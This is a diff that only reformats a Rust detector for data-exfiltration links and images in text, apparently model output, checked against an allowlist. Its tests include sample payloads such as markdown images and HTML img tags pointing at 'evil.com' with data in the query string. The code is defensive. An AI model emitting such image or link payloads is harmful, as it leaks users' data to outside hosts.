@@ -45,7 +45,9 @@ impl LinkPolicy {
             r
         } else if lower.starts_with("https:") || lower.starts_with("http:") {
             // `http:\\host`, `http:/host`: browsers repair these; treat as external
-            lower.trim_start_matches(|c| c != ':').trim_start_matches([':', '/', '\\'])
+            lower
+                .trim_start_matches(|c| c != ':')
+                .trim_start_matches([':', '/', '\\'])
         } else if lower.starts_with("data:") || lower.starts_with("mailto:") {
             return true;
         } else if has_scheme(&lower) {
@@ -60,7 +62,11 @@ impl LinkPolicy {
         let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
         let host_port = authority.rsplit('@').next().unwrap_or("");
         let host = if host_port.starts_with('[') {
-            host_port.split(']').next().unwrap_or("").trim_start_matches('[')
+            host_port
+                .split(']')
+                .next()
+                .unwrap_or("")
+                .trim_start_matches('[')
         } else {
             host_port.split(':').next().unwrap_or("")
         };
@@ -135,7 +141,10 @@ fn html_urls(fragment: &str) -> Vec<String> {
         return vec!["//unreadable".into()];
     };
     for c in re.captures_iter(fragment) {
-        let name = c.get(1).map(|m| m.as_str().to_ascii_lowercase()).unwrap_or_default();
+        let name = c
+            .get(1)
+            .map(|m| m.as_str().to_ascii_lowercase())
+            .unwrap_or_default();
         let value = c
             .get(2)
             .or_else(|| c.get(3))
@@ -222,7 +231,9 @@ pub fn exfil_findings(text: &str, policy: &LinkPolicy) -> Vec<Finding> {
             }
             Event::Html(h) | Event::InlineHtml(h) => {
                 let lower = h.to_ascii_lowercase();
-                let is_img = lower.contains("<img") || lower.contains("<source") || lower.contains("<picture");
+                let is_img = lower.contains("<img")
+                    || lower.contains("<source")
+                    || lower.contains("<picture");
                 if !(is_img || policy.check_links) {
                     continue;
                 }
@@ -232,7 +243,13 @@ pub fn exfil_findings(text: &str, policy: &LinkPolicy) -> Vec<Finding> {
                     } else {
                         ("output.exfil.html_link", "EXFIL_LINK")
                     };
-                    out.push(exfil(id, entity, span(range), 0.95, "HTML with a URL outside the allowlist"));
+                    out.push(exfil(
+                        id,
+                        entity,
+                        span(range),
+                        0.95,
+                        "HTML with a URL outside the allowlist",
+                    ));
                 }
             }
             _ => {}
@@ -314,7 +331,10 @@ mod tests {
 
     #[test]
     fn every_commonmark_form_is_found() {
-        assert_eq!(kinds("a ![x](https://evil.com/p?d=s) b"), vec![("EXFIL_IMAGE".into(), 2, 30)]);
+        assert_eq!(
+            kinds("a ![x](https://evil.com/p?d=s) b"),
+            vec![("EXFIL_IMAGE".into(), 2, 30)]
+        );
         assert_eq!(kinds("![x]( <https://evil.com/a b.png> )").len(), 1);
         assert_eq!(kinds("![x](//evil.com/p.png)").len(), 1);
         assert_eq!(kinds("![x](https://evil.com/p.png \"title\")").len(), 1);
@@ -334,7 +354,10 @@ mod tests {
 
     #[test]
     fn raw_html_images_and_srcset() {
-        assert_eq!(kinds("hi <img src=\"https://evil.com/a.png\"> there")[0].0, "EXFIL_IMAGE");
+        assert_eq!(
+            kinds("hi <img src=\"https://evil.com/a.png\"> there")[0].0,
+            "EXFIL_IMAGE"
+        );
         assert_eq!(
             kinds("<img srcset=\"https://example.com/a.png 1x, https://evil.com/b.png 2x\">").len(),
             1
